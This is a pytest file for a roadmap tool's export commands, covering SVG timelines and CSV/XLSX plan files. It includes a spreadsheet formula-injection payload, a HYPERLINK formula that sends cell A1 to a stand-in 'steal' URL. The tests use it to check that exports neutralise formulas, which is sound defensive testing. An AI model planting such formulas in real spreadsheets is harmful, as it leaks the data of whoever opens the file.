"""`roadmap export timeline`: a standalone SVG, or exit 1 with a message that says why."""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from conftest import RunCli

from generator.site.charts.style import STANDALONE_CSS

EXAMPLE = Path(__file__).resolve().parent.parent / "roadmap"
SVG = "{http://www.w3.org/2000/svg}"


def _export(run_cli: RunCli, output: Path, *extra: str):  # type: ignore[no-untyped-def]
    return run_cli(
        "export", "timeline", "--data", EXAMPLE, "--output", output, "--today", "2027-05-10", *extra
    )


def test_writes_a_standalone_svg(run_cli: RunCli, tmp_path: Path) -> None:
    output = tmp_path / "timeline.svg"
    result = _export(run_cli, output)
    assert result.exit_code == 0
    assert result.stderr == f"wrote the timeline to {output}\n"
    text = output.read_text("utf-8")
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<svg ')
    assert "var(" not in text  # no theme variables: its own colours
    root = ET.fromstring(text)
    assert root.get("width") == "1200"
    assert root.find(f"{SVG}title").text == ("Timeline of Customer Service Roadmap 2027 by quarter")
    assert root.find(f"{SVG}style").text == STANDALONE_CSS
    # Every class the chart uses is styled by its own stylesheet.
    used = {c for el in root.iter() for c in (el.get("class") or "").split()}
    styled = set(re.findall(r"\.(rm-[a-z-]+)", STANDALONE_CSS))
    hooks = {"rm-chart", "rm-timeline", "rm-item", "rm-legend"}
    hooks |= {"rm-s-proposed", "rm-s-planned", "rm-s-done"}
    assert used - styled <= hooks
    ids = {g.get("data-id") for g in root.iter(f"{SVG}g") if g.get("class") == "rm-item"}
    assert "kb-overhaul" in ids and "legacy-ivr-rebuild" not in ids  # scheduled work only
    assert "Customer Service Roadmap 2027: 2027-Q1 to 2027-Q4" in text
    again = tmp_path / "again.svg"
    _export(run_cli, again)
    assert again.read_bytes() == output.read_bytes()  # same data, same file


def test_one_team(run_cli: RunCli, tmp_path: Path) -> None:
    output = tmp_path / "quality.svg"
    assert _export(run_cli, output, "--team", "quality").exit_code == 0
    root = ET.fromstring(output.read_text("utf-8"))
    ids = {g.get("data-id") for g in root.iter(f"{SVG}g") if g.get("class") == "rm-item"}
    assert ids == {"qa-scorecard-redesign", "csat-survey-redesign", "qa-calibration-sessions"}


def test_refusals(run_cli: RunCli, tmp_path: Path) -> None:
    cases = {
        (str(tmp_path / "timeline.png"),): (
            f"error: {tmp_path / 'timeline.png'}: the timeline is written as SVG; name a file "
            "ending in .svg\n"
        ),
        (str(tmp_path / "missing" / "t.svg"),): (
            f"error: cannot write {tmp_path / 'missing' / 't.svg'}: the folder "
            f"{tmp_path / 'missing'} does not exist\n"
        ),
        (str(tmp_path / "t.svg"), "--team", "nobody"): (
            "error: unknown team 'nobody'; the teams are: cs-ops, emea-escalations, knowledge, "
            "quality, tier1-support, workforce-mgmt\n"
        ),
    }
    for (output, *extra), message in cases.items():
        result = _export(run_cli, Path(output), *extra)
        assert (result.exit_code, result.stderr) == (1, message)
    assert list(tmp_path.iterdir()) == []  # nothing half-written


def test_a_folder_that_cannot_be_written(run_cli: RunCli, tmp_path: Path) -> None:
    target = tmp_path / "timeline.svg"
    target.mkdir()  # a folder where the file should go
    result = _export(run_cli, target)
    assert result.exit_code == 1
    assert result.stderr == f"error: cannot write {target}: it is a folder, not a file\n"
    assert [p.name for p in tmp_path.iterdir()] == ["timeline.svg"]


def test_invalid_data_is_reported_as_usual(run_cli: RunCli, make_roadmap, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    data = make_roadmap({"id": "a", "impact": 9})
    result = run_cli("export", "timeline", "--data", data, "--output", tmp_path / "t.svg")
    assert result.exit_code == 1
    assert "a.yaml:4:9: error:" in result.stderr
    assert not (tmp_path / "t.svg").exists()


# --- roadmap export plan -------------------------------------------------------------------

HOSTILE = '=HYPERLINK("https://example.com/steal?d="&A1,"Click me")'
LEADERSHIP = [
    "ID",
    "Title",
    "Status",
    "Owner",
    "Team",
    "Start quarter",
    "End quarter",
    "Impact",
    "Effort (points)",
    "Quadrant",
    "Score",
    "Key results",
    "Dependencies",
    "Risks",
]
PUBLIC = [c for c in LEADERSHIP if c not in ("Quadrant", "Score", "Risks")]


def _plan(run_cli: RunCli, output: Path, *extra: object, data: Path = EXAMPLE):  # type: ignore[no-untyped-def]
    fmt = output.suffix.lstrip(".")
    return run_cli(
        "export", "plan", "--data", data, "--format", fmt, "--output", output,
        "--today", "2027-05-10", *extra,
    )  # fmt: skip


def _csv(path: Path) -> list[list[str]]:
    import csv

    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a byte order mark: Excel reads it as UTF-8
    return list(csv.reader(raw.decode("utf-8-sig").splitlines(keepends=True)))


def _hostile_copy(tmp_path: Path) -> Path:
    import shutil

    data = tmp_path / "roadmap"
    shutil.copytree(EXAMPLE, data)
    path = data / "initiatives" / "kb-overhaul.yaml"
    text = path.read_text("utf-8")
    old = next(line for line in text.splitlines() if line.startswith("title:"))
    path.write_text(text.replace(old, f"title: '{HOSTILE}'"), "utf-8")
    path = data / "initiatives" / "macros-cleanup.yaml"
    text = path.read_text("utf-8")
    old = next(line for line in text.splitlines() if line.startswith("title:"))
    path.write_text(text.replace(old, "title: '@SUM(1+1)'"), "utf-8")
    return data


def test_the_plan_as_csv_has_the_editions_columns(run_cli: RunCli, tmp_path: Path) -> None:
    team = tmp_path / "team.csv"
    result = _plan(run_cli, team)
    assert result.exit_code == 0, result.stderr
    assert result.stderr == f"wrote the team edition's plan (15 initiatives) to {team}\n"
    rows = _csv(team)
    assert rows[0] == PUBLIC
    by_id = {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert "legacy-ivr-rebuild" not in by_id  # left out of the plan: not in a public edition
    kb = by_id["kb-overhaul"]
    assert kb["Title"] and kb["Status"] in ("Planned", "In progress", "Proposed")
    assert kb["Start quarter"].startswith("2027-Q") and kb["Impact"].isdigit()
    everything = "\n".join(",".join(r) for r in rows)
    assert "EUR 18k" not in everything  # no internal notes

    lead = tmp_path / "lead.csv"
    assert _plan(run_cli, lead, "--audience", "leadership").exit_code == 0
    rows = _csv(lead)
    assert rows[0] == LEADERSHIP
    by_id = {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert "legacy-ivr-rebuild" in by_id
    assert by_id["kb-overhaul"]["Quadrant"] in ("Quick win", "Strategic", "Fill-in", "Ballast")
    assert float(by_id["kb-overhaul"]["Score"]) > 0

    org = tmp_path / "org.csv"
    assert _plan(run_cli, org, "--audience", "organisation").exit_code == 0
    assert _csv(org)[0] == PUBLIC
    again = tmp_path / "again.csv"
    _plan(run_cli, again)
    assert again.read_bytes() == team.read_bytes()


def test_the_plan_as_xlsx_holds_values_never_formulas(run_cli: RunCli, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    data = _hostile_copy(tmp_path)
    output = tmp_path / "plan.xlsx"
    result = _plan(run_cli, output, "--audience", "leadership", data=data)
    assert result.exit_code == 0, result.stderr
    sheet = load_workbook(output).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type != "f" for c in cells)
    assert [c.value for c in sheet[1]] == LEADERSHIP
    rows = {r[0]: r for r in sheet.iter_rows(min_row=2, values_only=True)}
    kb = dict(zip(LEADERSHIP, rows["kb-overhaul"], strict=True))
    assert kb["Title"] == HOSTILE  # the text as written, in a string cell
    (title,) = [c for c in cells if c.value == HOSTILE]
    assert title.data_type == "s" and title.quotePrefix  # typed as text: stays text when edited
    assert isinstance(kb["Impact"], int) and isinstance(kb["Score"], float)
    assert b"<f>" not in _unzipped(output)  # no formula anywhere in the file


def _unzipped(path: Path) -> bytes:
    import zipfile

    with zipfile.ZipFile(path) as z:
        return b"".join(z.read(n) for n in z.namelist())


def test_csv_neutralises_formulas(run_cli: RunCli, tmp_path: Path) -> None:
    data = _hostile_copy(tmp_path)
    output = tmp_path / "plan.csv"
    assert _plan(run_cli, output, data=data).exit_code == 0
    titles = {r[0]: r[1] for r in _csv(output)[1:]}
    assert titles["kb-overhaul"] == "'" + HOSTILE
    assert titles["macros-cleanup"] == "'@SUM(1+1)"
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in _csv(output) for cell in r)


def test_export_plan_refusals(run_cli: RunCli, tmp_path: Path) -> None:
    result = run_cli(
        "export", "plan", "--data", EXAMPLE, "--format", "csv", "--output", tmp_path / "p.xlsx"
    )
    assert (result.exit_code, result.stderr) == (
        1,
        f"error: {tmp_path / 'p.xlsx'}: the plan is written as CSV; name a file ending in .csv\n",
    )
    result = run_cli("export", "plan", "--data", EXAMPLE, "--format", "ods", "-o", tmp_path / "p")
    assert result.exit_code == 2
    target = tmp_path / "missing" / "p.csv"
    assert _plan(run_cli, target).exit_code == 1
    assert list(tmp_path.iterdir()) == []  # nothing half-written


@pytest.mark.parametrize("umask", [0o022, 0o027])
def test_every_exported_file_gets_the_users_umask(
    run_cli: RunCli, tmp_path: Path, umask: int
) -> None:
    import os
    import stat

    before = os.umask(umask)
    try:
        outputs = {
            "timeline.svg": ("export", "timeline", "--data", EXAMPLE, "--output"),
            "plan.csv": ("export", "plan", "--data", EXAMPLE, "--format", "csv", "--output"),
            "plan.xlsx": ("export", "plan", "--data", EXAMPLE, "--format", "xlsx", "--output"),
        }
        for name, command in outputs.items():
            result = run_cli(*command, tmp_path / name, "--today", "2027-05-10")
            assert result.exit_code == 0, result.output
            mode = stat.S_IMODE((tmp_path / name).stat().st_mode)
            assert mode == 0o666 & ~umask, f"{name}: {oct(mode)}"
    finally:
        os.umask(before)
